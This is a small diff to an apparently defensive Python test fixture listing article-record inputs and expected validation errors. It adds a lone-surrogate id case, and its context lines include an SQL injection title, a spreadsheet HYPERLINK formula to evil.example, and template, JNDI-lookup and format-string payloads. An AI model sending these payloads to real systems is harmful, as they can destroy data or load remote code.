@@ -47,6 +47,7 @@ WRITTEN_OUT: list[tuple[dict[str, Any], str | None, dict[str, str]]] = [
     ({"date": "1066-10-14"}, None, {"published_date": "date.unreadable"}),
     ({"date": "2931-01-01"}, None, {"published_date": "date.unreadable"}),
     ({"date": NEXT_MONTH}, None, {"published_date": "article.published.range"}),
+    ({"id": "a\ud800b"}, None, {}),
     ({"title": "'; drop table fact_article; --"}, None, {}),
     ({"title": "=HYPERLINK(\"https://evil.example\")"}, None, {}),
     ({"title": "{{7*7}} ${jndi:ldap://evil.example/a} %n%s"}, None, {}),
